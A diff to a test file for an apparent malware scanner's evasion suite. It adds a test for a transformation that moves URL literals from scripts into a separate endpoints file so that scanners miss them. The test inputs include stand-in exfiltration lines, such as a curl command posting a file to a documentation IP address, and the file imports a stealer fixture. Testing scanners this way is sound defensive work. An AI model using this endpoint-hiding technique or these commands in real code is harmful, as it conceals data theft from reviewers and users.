@@ -11,6 +11,7 @@ import {
   TRANSFORMATIONS,
 } from '../../../../src/scan/evaluate/evasion.js';
 import { splitLiterals, splitShell } from '../../../../src/scan/evaluate/split-literals.js';
+import { urlsToConfig } from '../../../../src/scan/evaluate/urls-to-config.js';
 import { files, STEALER } from '../../../support/evasion-stealer.js';
 
 // The evasion suite's transformations (eval/evasion/README.md) keep what a skill does while rewriting it as an
@@ -179,6 +180,21 @@ describe('transformations', () => {
     expect(splitLiterals("import x from 'some-module';\nconst u = 'https://a.example/x';", 'js')).toBe(
       "import x from 'some-module';\nconst u = ('https://a' + '.example/x');",
     );
+  });
+
+  it('move URL literals into an endpoints.txt the script reads at run time', () => {
+    const py = urlsToConfig(
+      'scripts/r.py',
+      "post('http://198.51.100.23/c', d)\nget('https://a.example/x')\npost('http://198.51.100.23/c')\n",
+    );
+    expect(py?.endpoints).toBe('http://198.51.100.23/c\nhttps://a.example/x\n');
+    expect(py?.code).not.toContain('http');
+    expect(py?.code).toContain("'endpoints.txt')).read().split()[1]");
+    const sh = urlsToConfig('s.sh', 'curl -d @f "http://198.51.100.23/c"\necho \'http://x.example\'\n');
+    expect(sh?.code).toBe(
+      'curl -d @f "$(sed -n 1p "$(dirname "$0")/endpoints.txt")"\necho \'http://x.example\'\n',
+    );
+    expect(urlsToConfig('a.mjs', "fetch('https://a.example')")).toBeNull();
   });
 
   it('do not apply where there is nothing to change', () => {
